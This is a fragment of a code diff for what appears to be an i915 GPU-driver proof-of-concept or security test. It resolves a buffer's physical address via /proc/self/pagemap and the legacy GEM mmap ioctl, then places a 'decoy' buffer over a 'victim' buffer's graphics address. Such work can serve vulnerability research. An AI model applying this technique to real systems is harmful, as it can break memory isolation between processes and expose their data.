@@ -47,16 +47,23 @@ static void open_bar0(void)
 	/* `awake` stays open: i915 keeps all forcewake domains awake as long. */
 }
 
-static uint64_t physical(const void *p)
+/* Physical address of a buffer's first page: the old mmap ioctl maps the shmem file, whose pages show. */
+static uint64_t physical(const struct gem_bo *bo)
 {
+	struct drm_i915_gem_mmap arg = {.handle = bo->handle, .size = bo->size};
 	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
 	uint64_t entry = 0;
 
-	if (fd < 0 || pread(fd, &entry, 8, (off_t)((uintptr_t)p / GEM_PAGE * 8)) != 8 ||
+	if (gem_ioctl(DRM_IOCTL_I915_GEM_MMAP, &arg)) {
+		gem_bail("mmap of a buffer's file");
+	}
+	(void)*(volatile uint8_t *)(uintptr_t)arg.addr_ptr;
+	if (fd < 0 || pread(fd, &entry, 8, (off_t)(arg.addr_ptr / GEM_PAGE * 8)) != 8 ||
 		!(entry >> 63)) {
 		gem_bail("pagemap");
 	}
 	close(fd);
+	munmap((void *)(uintptr_t)arg.addr_ptr, bo->size);
 	return (entry & ((UINT64_C(1) << 55) - 1)) * GEM_PAGE;
 }
 
@@ -386,7 +393,7 @@ int main(void)
 	if (!gem_ok(victim_aperture[3] == (SECRET | 3), "the aperture shows a page")) {
 		return gem_done();
 	}
-	gma = find_in_ggtt(physical(victim.map));
+	gma = find_in_ggtt(physical(&victim));
 	decoy = gem_create(GEM_PAGE, gma);
 	for (size_t e = 0; e < ARRAY_SIZE(gem_engines); e++) {
 		const struct gem_engine *engine = &gem_engines[e];
